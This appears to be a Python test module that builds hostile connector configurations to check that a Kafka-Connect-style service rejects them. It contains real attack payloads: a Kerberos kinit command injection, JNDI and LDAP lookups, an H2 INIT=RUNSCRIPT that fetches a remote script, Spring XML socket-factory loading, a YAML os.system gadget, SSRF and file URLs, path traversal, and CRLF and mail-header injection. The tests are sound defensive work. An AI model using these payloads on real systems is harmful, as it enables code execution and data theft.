"""Configs that nobody means well with: each would run code, read or write a file, or speak with a stranger.

A case is what is hostile, and the config. ``listener`` is an address where nobody may come, ``folder`` a place where
nothing may appear; ``folder/secret`` is a file that nobody may read.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

from tests.reliability.flows import JSON, STRING, Config, file_sink, s3_sink, sql_sink, stripe_source

PREFIXES = ("consumer.override.", "producer.override.", "admin.override.")
CODE = (
    "os.system",
    "subprocess.Popen",
    "builtins.eval",
    "tests.running.Worker",
    "ferryman.stack.Stack",
    "pickle.loads",
    "javax.script.ScriptEngineManager",
    "../../evil",
    "!!python/object/apply:os.system",
    "evil:main",
)


@dataclass(frozen=True)
class Surroundings:
    """What must not be touched."""

    folder: Path
    listener: str

    @property
    def secret(self) -> Path:
        return self.folder / "secret"

    @property
    def planted(self) -> Path:
        return self.folder / "planted"


def cases(around: Surroundings) -> Iterator[tuple[str, Config]]:
    """All of them."""
    yield from _clients(around)
    yield from _plugins()
    yield from _databases(around)
    yield from _addresses(around)
    yield from _buckets()
    yield from _templates()
    yield from _names()
    yield from _numbers()


def _clients(around: Surroundings) -> Iterator[tuple[str, Config]]:
    """Settings of the Kafka client that load code, run commands, read files or ask strangers."""
    url, file = f"http://{around.listener}/token", str(around.secret)
    code = {
        "plugin.library.paths": file,
        "ssl.engine.location": file,
        "ssl.engine.id": "dynamic",
        "ssl.providers": file,
        "sasl.kerberos.kinit.cmd": f"touch {around.planted}",
        "ssl.engine.factory.class": "evil.Factory",
        "sasl.login.class": "evil.Login",
        "sasl.login.callback.handler.class": "evil.Handler",
        "sasl.client.callback.handler.class": "evil.Handler",
        "sasl.oauthbearer.token.endpoint.url": url,
        "sasl.oauthbearer.jwks.endpoint.url": url,
        "sasl.oauthbearer.assertion.file": file,
        "sasl.oauthbearer.assertion.private.key.file": file,
        "sasl.oauthbearer.assertion.jwt.template.file": file,
        "sasl.oauthbearer.metadata.authentication.type": "azure_imds",
        "https.ca.location": file,
        "sasl.oauthbearer.config": f"principal={file}",
        "sasl.jaas.config": 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://x";',
        "socket_cb": "os.system",
    }
    spellings = (str, str.title, str.upper, lambda key: key.replace("s", "\u017f", 1), lambda key: f" {key}")
    for key, value in code.items():
        for prefix in PREFIXES:
            yield f"{prefix}{key}", file_sink("x", around.planted) | {prefix + key: value}
        for spelling in spellings[1:]:
            yield f"{spelling(key)!r}", file_sink("x", around.planted) | {PREFIXES[0] + spelling(key): value}


def _plugins() -> Iterator[tuple[str, Config]]:
    """Names that are to be imported."""
    base = file_sink("x", Path("planted"))
    for name in CODE:
        yield f"connector.class={name}", base | {"connector.class": name}
        for key in ("key.converter", "value.converter", "header.converter"):
            yield f"{key}={name}", base | {key: name}
        yield f"a transform {name}", base | {"transforms": "t", "transforms.t.type": name}
        yield f"a predicate {name}", base | {"predicates": "p", "predicates.p.type": name}


def _databases(around: Surroundings) -> Iterator[tuple[str, Config]]:
    """URLs that load drivers and files, or are led elsewhere."""
    host = around.listener
    urls = [
        f"jdbc:h2:file:{around.planted};INIT=RUNSCRIPT FROM 'http://{host}/x'",
        f"jdbc:derby:{around.planted};create=true",
        "jdbc:hsqldb:mem:x",
        f"jdbc:db2://{host}/x:clientRerouteServerListJNDIName=ldap://{host}/x;",
        f"jdbc:oracle:thin:@{host}:x",
        f"jdbc:sqlserver://{host};databaseName=x",
        f"jdbc:snowflake://{host}/",
        f"mssql+pyodbc:///?odbc_connect=Driver%3D{around.secret}",
        f"oracle+cx_oracle://{host}/x",
        f"duckdb:///{around.planted}",
        f"access+pyodbc:///{around.planted}",
        f"file:{around.secret}",
        f"http://{host}/",
        f"ldap://{host}/",
        f"jdbc:ldap://{host}/",
        "jdbc:",
        "",
        "://",
        "\u0000",
        f"postgresql+evil://{host}/x",
        f"postgresql+pg8000://{host}/x",
    ]
    for url in urls:
        yield f"connection.url={url!r}", sql_sink("x", url)
    parameters = {
        "service": "evil",
        "passfile": str(around.secret),
        "servicefile": str(around.secret),
        "host": str(around.folder),
        "hostaddr": "127.0.0.1",
        "options": "-c session_preload_libraries=evil",
        "requirepeer": "evil",
        "gsslib": "gssapi",
        "plugin": "evil",
        "replication": "database",
        "socketFactory": "org.springframework.context.support.ClassPathXmlApplicationContext",
        "socketFactoryArg": f"http://{host}/x.xml",
        "sslfactory": "evil.Factory",
        "sslhostnameverifier": "evil.Verifier",
        "sslpasswordcallback": "evil.Callback",
        "authenticationPluginClassName": "evil.Plugin",
        "loggerFile": str(around.planted),
        "jaasApplicationName": "evil",
    }
    for name, value in parameters.items():
        encoded = "".join(f"%{ord(letter):02x}" for letter in name)
        for start in (f"jdbc:postgresql://{host}/x", f"postgresql://u@{host}/x", f"postgresql+psycopg://u@{host}/x"):
            yield f"{start}?{name}", sql_sink("x", f"{start}?{name}={quote(value, safe='')}")
            yield f"{start}?{encoded}", sql_sink("x", f"{start}?{encoded}={quote(value, safe='')}")


def _addresses(around: Surroundings) -> Iterator[tuple[str, Config]]:
    """Addresses that are no web server's."""
    strange = [
        f"file://{around.secret}",
        f"gopher://{around.listener}/",
        f"ftp://{around.listener}/",
        f"unix://{around.folder}",
        f"ldap://{around.listener}/",
        "javascript:alert(1)",
        "http://",
        "//nowhere",
        f"jar:http://{around.listener}!/x",
        f"http://{around.listener}\r\nX-Evil: yes/",
    ]
    for url in strange:
        yield f"stripe.api.url={url!r}", stripe_source("x", url)
        yield f"store.url={url!r}", s3_sink("x", url, "bucket")
        avro = {"value.converter": "AvroConverter", "value.converter.schema.registry.url": url}
        yield f"schema.registry.url={url!r}", file_sink("x", around.planted) | avro


def _buckets() -> Iterator[tuple[str, Config]]:
    """Buckets that lead out of the server's folder."""
    for name in ("..", "../x", "a/b", "/", "%2e%2e", "a\u0000b", "x", "a b"):
        yield f"s3.bucket.name={name!r}", s3_sink("x", "http://127.0.0.1:1", name)


def _templates() -> Iterator[tuple[str, Config]]:
    """Mails whose templates are none, or whose addresses are other people's. What templates may reach is seen later."""
    broken = ["{{ x.y", "{% if %}", "{{ value | no_such_filter }}", "{% set x = 1 %}{% do x %}", "{% evil %}", "{{ 1 +"]
    for template in broken:
        for key in ("mail.subject", "mail.text", "mail.to"):
            yield f"{key}={template}", mail(**{key: template})
    for address in (
        "a@b.example\r\nBcc: victim@c.example",
        "a@b.example, victim@c.example",
        "nobody",
        "a@b@c",
        "a\u0000@b.example",
    ):
        yield f"mail.from={address!r}", mail(**{"mail.from": address})
        yield f"mail.reply.to={address!r}", mail(**{"mail.from": "a b c", "mail.reply.to": address})


def mail(**more: str) -> Config:
    """A mail for each record, otherwise as it should be."""
    return {
        "name": "x",
        "connector.class": "EmailSink",
        "topics": "x",
        "smtp.host": "127.0.0.1",
        "smtp.port": "1",
        "smtp.security": "none",
        "mail.from": "a@b.example",
        "mail.to": "c@d.example",
        "mail.subject": "x",
        "mail.text": "x",
        **more,
    }


def _names() -> Iterator[tuple[str, Config]]:
    """Names that are none."""
    for name in ("", " ", "a\nb", "a\u0000b", "a\x1b[31mb", "\x7f", "a\tb", "a\u0085b"):
        yield f"name={name!r}", file_sink("x", Path("planted")) | {"name": name}
    for pattern in ("(", "*", "[z-a]", "(?<n", "\\", "a{2,1}", "(?P<n>a", "a**"):
        config = file_sink("x", Path("planted"))
        del config["topics"]
        yield f"topics.regex={pattern}", config | {"topics.regex": pattern}


def _numbers() -> Iterator[tuple[str, Config]]:
    """Numbers that are none, or far too large."""
    for number in ("0", "-1", "1e3", "NaN", "9" * 5000, "2147483648", "1.5", "0x10", "ten"):
        yield f"tasks.max={number[:20]}", file_sink("x", Path("planted")) | {"tasks.max": number}
        yield f"max.in.flight={number[:20]}", mail(**{"max.in.flight": number})


def sane() -> Mapping[str, Config]:
    """Configs like the hostile ones that must be accepted, so that a refusal is for the hostile part."""
    return {
        "file": file_sink("x", Path("planted")),
        "sql": sql_sink("x", "postgresql://u@127.0.0.1:1/x"),
        "jdbc": sql_sink("x", "jdbc:postgresql://127.0.0.1:1/x"),
        "s3": s3_sink("x", "http://127.0.0.1:1", "bucket"),
        "stripe": stripe_source("x", "http://127.0.0.1:1"),
        "mail": mail(),
        "json": file_sink("x", Path("planted")) | {"value.converter": JSON, "key.converter": STRING},
    }
